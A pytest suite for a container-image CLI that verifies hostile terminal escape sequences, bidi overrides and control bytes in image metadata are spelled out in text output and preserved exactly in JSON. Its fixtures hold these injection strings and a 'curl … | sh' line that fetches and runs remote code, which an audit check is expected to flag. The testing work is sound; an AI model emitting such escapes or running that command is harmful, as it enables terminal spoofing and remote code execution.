"""Terminal injection: images are untrusted, and what they say must never reach a terminal raw.

Small hostile sources (an OCI layout, a docker-archive tar, a json: config, a repo-info document,
a Dockerfile) carry every class of character a terminal acts on — CSI colour (`ESC [31m`), an
OSC 8 hyperlink and an OSC 0 title, the C1 CSI U+009B, BEL, BS, CR, DEL, NUL, and the bidi
override U+202E and isolate U+2066 — in created_by, tags and names, labels, env, layer urls,
platform os/architecture/variant/os.version, annotations and file names. Every command is run
through the real CLI in a subprocess (tests/support/limits.py): no unsafe character on stdout or
stderr, text outputs spell the characters out (`\\x1b[31m`), JSON outputs decode to the exact
original strings.
"""

from __future__ import annotations

import gzip
import json
import tarfile
from pathlib import Path

import pytest

from reconstruct.blob.digests import sha256_digest
from tests.support.hostile import tar_bytes
from tests.support.limits import UNSAFE, Limited, assert_clean, run_limited

# Every class, in one string: CSI colour, OSC 8 hyperlink, OSC 0 title, C1 CSI, BEL, BS, CR,
# DEL, NUL, RLO (closed by PDF) and an isolate. No `:` or `/`: it also serves as a tag.
EVIL = (
    "\x1b[31mred\x1b[0m "
    "\x1b]8;;https\x07link\x1b]8;;\x07 "
    "\x1b]0;pwned\x07 "
    "\x9b2J "
    "bel\x07 bs\x08 cr\r del\x7f nul\x00 "
    "\u202eabc\u202c \u2066iso\u2069"
)
# How a text format spells it: hex escapes, tab and newline kept.
EVIL_TEXT = (
    "\\x1b[31mred\\x1b[0m "
    "\\x1b]8;;https\\x07link\\x1b]8;;\\x07 "
    "\\x1b]0;pwned\\x07 "
    "\\x9b2J "
    "bel\\x07 bs\\x08 cr\\x0d del\\x7f nul\\x00 "
    "\\u202eabc\\u202c \\u2066iso\\u2069"
)
# A tag: what a reference allows around the hostile part (no NUL: tar names cannot hold one).
TAG = EVIL.replace("\x00", "").replace(" ", "_")
TAG_TEXT = EVIL_TEXT.replace("\\x00", "").replace(" ", "_")
NAME = "evil/name"
URL = "https://evil.example/\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\u202e"
CREATED = "2020-01-01T00:00:00Z"
FOREIGN = "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip"
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
OCI_LAYER = "application/vnd.oci.image.layer.v1.tar+gzip"


def _layer() -> bytes:
    """A real layer whose file name is hostile too."""
    return tar_bytes([(f"etc/{EVIL.replace(chr(0), '')}", b"hello\n")], format=tarfile.PAX_FORMAT)


def _config(layer: bytes, *, foreign_diff_id: str | None = None) -> dict:
    diff_ids = [sha256_digest(layer)] + ([foreign_diff_id] if foreign_diff_id else [])
    history = [
        {"created": CREATED, "created_by": f"/bin/sh -c #(nop) ADD file:{'0' * 64} in / {EVIL}"},
        {
            "created": CREATED,
            "created_by": f"/bin/sh -c #(nop)  LABEL evil={EVIL}",
            "empty_layer": True,
        },
        {
            "created": CREATED,
            "created_by": f"/bin/sh -c #(nop)  ENV EVIL={EVIL}",
            "empty_layer": True,
        },
        # a heredoc: its newline and tab are legitimate and stay
        {
            "created": CREATED,
            "created_by": f"RUN /bin/sh -c cat <<EOF\n\t{EVIL}\nEOF # buildkit",
            "empty_layer": True,
        },
        # something audit reports, with the hostile text in its evidence
        {
            "created": CREATED,
            "created_by": f"/bin/sh -c curl -fsSL https://x.example/a | sh -s -- {EVIL}",
            "empty_layer": True,
        },
        {
            "created": CREATED,
            "created_by": f'/bin/sh -c #(nop)  CMD ["sh" "-c" "echo {EVIL}"]',
            "empty_layer": True,
        },
    ]
    if foreign_diff_id:
        history.insert(1, {"created": CREATED, "created_by": f"Apply image {EVIL}"})
    return {
        "architecture": f"amd64{EVIL}",
        "os": f"linux{EVIL}",
        "variant": f"v8{EVIL}",
        "os.version": f"10.0{EVIL}",
        "created": CREATED,
        "author": EVIL,
        "config": {
            "Env": [f"EVIL={EVIL}", f"PATH=/bin{EVIL}"],
            "Labels": {"evil": EVIL, EVIL: "key"},
            "Cmd": ["sh", "-c", f"echo {EVIL}"],
            "User": EVIL,
            "WorkingDir": f"/{EVIL}",
            "ExposedPorts": {f"80/tcp{EVIL}": {}},
        },
        "rootfs": {"type": "layers", "diff_ids": diff_ids},
        "history": history,
    }


def oci_layout(folder: Path, tag: str = TAG) -> Path:
    """An index (hostile platform descriptor and annotations) over a manifest with a present
    regular layer and an absent foreign one whose urls are hostile."""
    layer = gzip.compress(_layer(), mtime=0)
    foreign_diff = "sha256:" + "f" * 64
    config = json.dumps(_config(_layer(), foreign_diff_id=foreign_diff)).encode()
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": {
                "mediaType": OCI_CONFIG,
                "digest": sha256_digest(config),
                "size": len(config),
            },
            "layers": [
                {"mediaType": OCI_LAYER, "digest": sha256_digest(layer), "size": len(layer)},
                {
                    "mediaType": FOREIGN,
                    "digest": "sha256:" + "e" * 64,
                    "size": 1234,
                    "urls": [URL],
                    "annotations": {"evil": EVIL},
                },
            ],
            "annotations": {"org.opencontainers.image.description": EVIL, EVIL: "key"},
        }
    ).encode()
    platform = {
        "os": f"linux{EVIL}",
        "architecture": f"amd64{EVIL}",
        "variant": f"v8{EVIL}",
        "os.version": f"10.0{EVIL}",
    }
    inner = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": OCI_INDEX,
            "manifests": [
                {
                    "mediaType": OCI_MANIFEST,
                    "digest": sha256_digest(manifest),
                    "size": len(manifest),
                    "platform": platform,
                    "annotations": {"evil": EVIL},
                }
            ],
            "annotations": {"evil": EVIL},
        }
    ).encode()
    index = {
        "schemaVersion": 2,
        "mediaType": OCI_INDEX,
        "manifests": [
            {
                "mediaType": OCI_INDEX,
                "digest": sha256_digest(inner),
                "size": len(inner),
                "annotations": {
                    "org.opencontainers.image.ref.name": tag,
                    "io.containerd.image.name": f"{NAME}:{tag}",
                },
            }
        ],
    }
    blobs = folder / "blobs" / "sha256"
    blobs.mkdir(parents=True)
    (folder / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
    (folder / "index.json").write_text(json.dumps(index))
    for data in (layer, config, manifest, inner):
        (blobs / sha256_digest(data).split(":")[1]).write_bytes(data)
    return folder


def docker_archive(path: Path) -> Path:
    """A legacy `docker save` archive: hostile RepoTags and layer file names."""
    layer = _layer()
    config = json.dumps(_config(layer)).encode()
    config_name = sha256_digest(config).split(":")[1] + ".json"
    layer_name = f"{EVIL.replace(chr(0), '')}/layer.tar"
    manifest = [{"Config": config_name, "RepoTags": [f"{NAME}:{TAG}"], "Layers": [layer_name]}]
    members = [(config_name, config), (layer_name, layer)]
    members.append(("manifest.json", json.dumps(manifest).encode()))
    members.append(("repositories", json.dumps({NAME: {TAG: "0" * 64}}).encode()))
    path.write_bytes(tar_bytes(members, format=tarfile.PAX_FORMAT))
    return path


def json_config(path: Path) -> Path:
    path.write_text(json.dumps(_config(_layer())))
    return path


def _generator_json(value: object) -> str:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":")).replace("/", "\\/")


def repo_info(path: Path, evil: str = EVIL, tag: str = TAG) -> Path:
    """An upstream repo-info document whose name, tag, platform and steps are hostile."""
    ref = f"{NAME}:{tag}"
    digest = "sha256:" + "a" * 64
    command = _generator_json(["sh", "-c", f"echo {evil}"])
    path.write_text(
        f"## `{ref}`\n\n```console\n$ docker pull {NAME}@{digest}\n```\n\n"
        f"-\tManifest MIME: `application/vnd.oci.image.index.v1+json`\n"
        f"-\tPlatforms: 1\n\t-\tlinux; amd64{evil}\n\n"
        f"### `{ref}` - linux; amd64{evil}\n\n```console\n$ docker pull {NAME}@{digest}\n```\n\n"
        "-\tDocker Version: 20.10.7\n"
        "-\tManifest MIME: `application/vnd.docker.distribution.manifest.v2+json`\n"
        "-\tTotal Size: **1.0 KB (1024 bytes)**  \n\t(compressed transfer size, not on-disk size)\n"
        f"-\tImage ID: `sha256:{'b' * 64}`\n"
        f"-\tDefault Command: `{command}`\n\n"
        "```dockerfile\n"
        f"# Wed, 01 Jan 2020 00:00:00 GMT\nADD file:{'0' * 64} in / {evil}\n"
        f"# Wed, 01 Jan 2020 00:00:00 GMT\nENV EVIL={evil}\n"
        f"# Wed, 01 Jan 2020 00:00:00 GMT\nRUN curl -fsSL https://x.example/a | sh -s -- {evil}\n"
        f'# Wed, 01 Jan 2020 00:00:00 GMT\nCMD ["sh" "-c" "echo {evil}"]\n'
        "```\n\n-\tLayers:\n"
        f"\t-\t`sha256:{'c' * 64}`  \n"
        "\t\tLast Modified: Wed, 01 Jan 2020 00:00:01 GMT  \n"
        "\t\tSize: 1.0 KB (1024 bytes)  \n"
        "\t\tMIME: application/vnd.docker.image.rootfs.diff.tar.gzip\n"
    )
    return path


def dockerfile(path: Path) -> Path:
    path.write_text(
        f'FROM scratch AS build\nLABEL evil="{EVIL}"\nENV EVIL="{EVIL}"\n'
        f"RUN echo {EVIL}\nRUN <<EOF\n\techo {EVIL}\nEOF\n"
        f"RUN curl -fsSL https://x.example/a | sh -s -- {EVIL}\n"
        f'CMD ["sh", "-c", "echo {EVIL}"]\n'
    )
    return path


@pytest.fixture(scope="module")
def sources(tmp_path_factory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("terminal")
    return {
        "oci": f"oci:{oci_layout(folder / 'layout')}",
        "docker-archive": f"docker-archive:{docker_archive(folder / 'image.tar')}",
        # a hostile file name too: reports and messages name the path
        "json": f"json:{json_config(folder / f'config{TAG}.json')}",
        "repo-info": f"repo-info:{repo_info(folder / 'remote.md')}",
        "dockerfile": f"dockerfile:{dockerfile(folder / 'Dockerfile')}",
    }


def strings(value: object) -> list[str]:
    """Every string in a decoded JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (key, *strings(item))]
    if isinstance(value, list):
        return [s for item in value for s in strings(item)]
    return []


def clean(*args: str) -> Limited:
    result = run_limited(*args)
    assert_clean(result)
    return result


def assert_text(result: Limited, *spellings: str) -> None:
    """A text output: the hostile characters are spelled out, the escapes are there."""
    for spelling in spellings or (EVIL_TEXT,):
        assert spelling in result.out, result


def assert_exact_json(values: list[object], *originals: str) -> None:
    """JSON output: it decodes to the exact original hostile strings (no escape doubled, no
    character lost)."""
    found = [s for value in values for s in strings(value)]
    for original in originals or (EVIL,):
        assert any(original in s for s in found), (original, found[:50])
    assert any(UNSAFE.search(s) for s in found), "the hostile characters are gone"


SOURCES = ("oci", "docker-archive", "json", "repo-info", "dockerfile")


@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("fmt", ["repo-info", "dockerfile", "table"])
def test_show_text_formats_spell_controls_out(sources, source, fmt):
    result = clean("show", sources[source], "--format", fmt, "--no-trunc")
    assert result.code == 0, result
    wanted = [] if fmt == "table" else [EVIL_TEXT]  # table cells: tabs and newlines folded
    assert_text(result, *wanted, "\\x1b[31mred", "\\x9b2J", "\\u202eabc", "\\x0d")


@pytest.mark.parametrize("source", SOURCES)
def test_show_json_decodes_to_the_original_strings(sources, source):
    result = clean("show", sources[source], "--format", "json")
    assert result.code == 0, result
    assert "\\u001b[31m" in result.out and "\\u009b" in result.out and "\\u202e" in result.out
    assert_exact_json([json.loads(result.out)])


@pytest.mark.parametrize("source", SOURCES)
def test_show_jsonl_decodes_to_the_original_strings(sources, source):
    result = clean("show", sources[source], "--format", "jsonl")
    assert result.code == 0, result
    lines = result.out.splitlines()
    assert len(lines) == 1, result
    assert_exact_json([json.loads(line) for line in lines])


@pytest.mark.parametrize("source", ["oci", "docker-archive"])
@pytest.mark.parametrize("fmt", ["json", "jsonl", "repo-info"])
def test_show_all(sources, source, fmt):
    result = clean("show", sources[source], "--all", "--format", fmt)
    assert result.code == 0, result
    if fmt == "json":
        assert_exact_json([json.loads(result.out)])
    elif fmt == "jsonl":
        assert_exact_json([json.loads(line) for line in result.out.splitlines()])
    else:
        assert_text(result)


@pytest.mark.parametrize("source", ["oci", "docker-archive", "json"])
def test_show_keeps_a_heredoc_s_newline_and_tab(sources, source):
    result = clean("show", sources[source])
    assert f"RUN cat <<EOF\n\t{EVIL_TEXT}\nEOF # buildkit\n" in result.out, result


def test_show_all_reports_a_failing_hostile_image_spelled_out(tmp_path):
    layout = oci_layout(tmp_path / "layout")
    index = json.loads((layout / "index.json").read_text())
    absent = {
        "mediaType": OCI_MANIFEST,
        "digest": "sha256:" + "d" * 64,
        "size": 10,
        "annotations": {"org.opencontainers.image.ref.name": TAG.replace("red", "gone")},
    }
    index["manifests"].append(absent)
    (layout / "index.json").write_text(json.dumps(index))
    result = clean("show", f"oci:{layout}", "--all", "--format", "jsonl")
    assert result.code == 1, result
    assert_exact_json([json.loads(line) for line in result.out.splitlines()])
    lines = result.err.splitlines()
    assert len(lines) == 2 and "\\x1b[31mgone\\x1b[0m" in lines[0], result


def test_show_names_the_hostile_tag_in_its_header(sources):
    result = clean("show", sources["oci"])
    assert f"## `{NAME}:{TAG_TEXT}`" in result.out, result
    result = clean("show", sources["oci"], "--name", f"other:{TAG}")
    assert f"## `other:{TAG_TEXT}`" in result.out, result


@pytest.mark.parametrize("source", ["oci", "docker-archive"])
def test_ls(sources, source):
    table = clean("ls", sources[source])
    assert table.code == 0, table
    assert TAG_TEXT in table.out, table
    lines = clean("ls", sources[source], "--json")
    assert lines.code == 0, lines
    decoded = [json.loads(line) for line in lines.out.splitlines()]
    assert [d["tag"] for d in decoded] == [TAG], lines


@pytest.mark.parametrize("source", ["oci", "docker-archive", "json"])
def test_verify(sources, source):
    text = clean("verify", sources[source])
    assert "\\x1b" in text.out, text
    report = clean("verify", sources[source], "--format", "json")
    assert report.code == text.code, report
    assert_exact_json([json.loads(report.out)], TAG)


def test_verify_names_hostile_urls_and_file_names(sources):
    text = clean("verify", sources["oci"])
    assert "https://evil.example/\\x1b]8;;https://evil.example/\\x07click" in text.out, text
    report = json.loads(clean("verify", sources["oci"], "--format", "json").out)
    assert URL in strings(report), report
    archive = clean("verify", sources["docker-archive"])
    assert "\\x1b[31mred" in archive.out, archive


@pytest.mark.parametrize("source", SOURCES)
def test_audit(sources, source):
    # a Dockerfile is read as text: a CR inside a line does not survive its reading
    evil = EVIL.replace("\r", "") if source == "dockerfile" else EVIL
    text = clean("audit", sources[source])
    assert "downloads a script" in text.out, text
    assert "> RUN curl -fsSL https://x.example/a | sh -s -- \\x1b[31mred\\x1b[0m" in text.out, text
    report = clean("audit", sources[source], "--format", "json")
    assert_exact_json([json.loads(report.out)], evil)
    sarif = clean("audit", sources[source], "--format", "sarif")
    document = json.loads(sarif.out)
    assert document["version"] == "2.1.0"
    assert_exact_json([document], evil)


@pytest.mark.parametrize(
    ("a", "b"), [("oci", "docker-archive"), ("json", "repo-info"), ("oci", "dockerfile")]
)
def test_compare(sources, a, b):
    text = clean("compare", sources[a], sources[b])
    assert text.code in (0, 1), text
    assert "\\x1b" in text.out, text
    report = clean("compare", sources[a], sources[b], "--format", "json")
    assert report.code == text.code, report
    assert_exact_json([json.loads(report.out)])
    diff = clean("compare", sources[a], sources[b], "--format", "diff")
    assert diff.code == text.code, diff


def test_compare_diff_spells_controls_out(sources, tmp_path):
    changed = Path(sources["json"].removeprefix("json:")).read_text().replace("red", "blue")
    other = tmp_path / "other.json"
    other.write_text(changed)
    diff = clean("compare", sources["json"], f"json:{other}", "--format", "diff")
    assert diff.code == 1, diff
    assert "-ADD" in diff.out and "\\x1b[31mred" in diff.out and "\\x1b[31mblue" in diff.out


def test_base(sources):
    text = clean("base", sources["oci"], "--against", sources["docker-archive"])
    assert text.code == 0, text
    assert "\\x1b[31mred" in text.out and "\\u202e" in text.out, text
    report = clean("base", sources["oci"], "--against", sources["docker-archive"], "--json")
    assert_exact_json([json.loads(report.out)])


def test_mirror_writes_neutralised_documents(tmp_path):
    layout = oci_layout(tmp_path / "layout", tag="1.0")
    out = tmp_path / "mirror"
    result = clean("mirror", f"oci:{layout}", str(out), "--jobs", "1")
    assert result.code == 0, result
    written = sorted(p for p in out.rglob("*") if p.is_file())
    assert [p.name for p in written] == ["1.0.md", "tag-details.md"], written
    for path in written:
        text = path.read_text()
        assert UNSAFE.search(text) is None, (path, text[:500])
        assert EVIL_TEXT in text, (path, text[:500])
    # what mirror writes is what show prints
    shown = clean("show", f"oci:{layout}", "--name", f"{NAME}:1.0")
    assert (out / "repos" / "evil" / "name" / "remote" / "1.0.md").read_text() == shown.out


def test_mirror_reports_a_hostile_tag_spelled_out(sources, tmp_path):
    result = clean("mirror", sources["oci"], str(tmp_path / "mirror"), "--jobs", "1")
    assert result.code in (0, 1), result
    assert "\\x1b[31mred" in result.err + result.out, result


@pytest.mark.parametrize("source", ["oci", "docker-archive"])
def test_an_unknown_hostile_tag_is_named_spelled_out(sources, source):
    result = clean("show", f"{sources[source]}:{TAG.replace('red', 'absent')}")
    assert result.code == 2, result
    # the message quotes what was asked for, and may list what there is (the hostile tag)
    assert "\\x1b[31mabsent" in result.err and "\\u202eabc" in result.err, result


def test_a_hostile_file_name_in_an_error(tmp_path):
    result = clean("show", f"json:{tmp_path / EVIL.replace(chr(0), '')}.json")
    assert result.code == 2, result
    assert "\\x1b[31mred" in result.err and "\\x0d" in result.err, result


def test_a_hostile_option_value_in_an_error(sources):
    for command, option in (("show", "--format"), ("audit", "--fail-on"), ("verify", "-f")):
        result = clean(command, sources["json"], option, EVIL.replace(chr(0), ""))
        assert result.code == 2, result
        assert "\\x1b[31mred" in result.err and "\\u202eabc" in result.err, result


def test_ordinary_output_is_unchanged(sources, tmp_path):
    """Neutralising changes nothing when there is nothing to neutralise: a repo-info document
    reproduces itself byte for byte."""
    plain = repo_info(tmp_path / "plain.md", evil="plain \u4e2d\u6587 caf\u00e9", tag="1.0")
    document = plain.read_text()
    result = clean("show", f"repo-info:{plain}")
    assert result.code == 0 and result.out == document, result


# --- lone surrogates: a JSON `\udc9b` escape, a tar name's byte that is not UTF-8 -------------
# Written out with surrogateescape they would be that raw byte (0x9b: the 8-bit CSI, and not
# UTF-8); any other (`\ud800`) would stop the output. Both are spelled out, and JSON keeps them.
LONE = "\udc9b[31mX\ud800"
RAW_NAME = "etc/raw\udc9b[31m\udcff"  # in a ustar header: the bytes 0x9b and 0xff


def _surrogate_config(layer: bytes) -> dict:
    config = _config(layer)
    config["config"] = {
        "Labels": {f"k{LONE}": f"v{LONE}"},
        "ExposedPorts": {f"80/tcp{LONE}": {}},
        "Volumes": {f"/v{LONE}": {}},
        "User": f"u{LONE}",
    }
    config["history"][0]["created_by"] += LONE
    return config


@pytest.fixture(scope="module")
def lone_sources(tmp_path_factory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("surrogates")
    layer = tar_bytes([(RAW_NAME, b"x\n"), ("etc/plain", b"y\n")], format=tarfile.GNU_FORMAT)
    config = json.dumps(_surrogate_config(layer)).encode()  # ensure_ascii: `\udc9b` escapes
    config_name = sha256_digest(config)[7:] + ".json"
    manifest = [{"Config": config_name, "RepoTags": [f"{NAME}:t\udc9b2J"], "Layers": ["l.tar"]}]
    members = [
        (config_name, config),
        ("l.tar", layer),
        ("manifest.json", json.dumps(manifest).encode()),
    ]
    (folder / "image.tar").write_bytes(tar_bytes(members, format=tarfile.PAX_FORMAT))
    (folder / "config.json").write_bytes(config)
    return {
        "docker-archive": f"docker-archive:{folder / 'image.tar'}",
        "json": f"json:{folder / 'config.json'}",
        "oci": f"oci:{oci_layout(folder / 'layout', tag='t' + LONE.replace('[', '_'))}",
    }


LONE_COMMANDS = [
    ("show",), ("show", "-f", "json"), ("show", "-f", "jsonl"), ("show", "-f", "dockerfile"),
    ("ls",), ("ls", "--json"), ("verify",), ("verify", "-f", "json"), ("audit",),
    ("audit", "-f", "json"), ("audit", "-f", "sarif"), ("audit", "--files"),
    ("audit", "--files", "-f", "sarif"), ("files",), ("files", "-f", "json"),
    ("files", "-f", "jsonl"),
]  # fmt: skip


# a bare config has no layer to list, and ls and verify name it by its path and digest only
LONE_CASES = [
    (source, command)
    for source in ("docker-archive", "json", "oci")
    for command in LONE_COMMANDS
    if source != "json" or (command[0] in ("show", "audit") and "--files" not in command)
]


@pytest.mark.parametrize(
    "source,command", LONE_CASES, ids=[f"{s}-{' '.join(c)}" for s, c in LONE_CASES]
)
def test_lone_surrogates_are_spelled_out_and_kept_in_json(lone_sources, source, command):
    result = clean(command[0], lone_sources[source], *command[1:])
    assert result.code in (0, 1), result
    if "jsonl" in command or "--json" in command:
        values = [json.loads(line) for line in result.out.splitlines() if line.strip()]
    elif "json" in command or "sarif" in command:
        values = [json.loads(result.out)]
    else:  # where the text shows a tag, a file name or an exposed port, it is spelled out
        shows = command[0] in ("ls", "files", "verify") or command == ("audit", "--files")
        if shows or command == ("audit",):
            assert "\\udc9b" in result.out, result
        return
    found = [s for value in values for s in strings(value)]
    assert any("\udc9b" in s for s in found), found[:40]  # the exact text, as JSON escapes
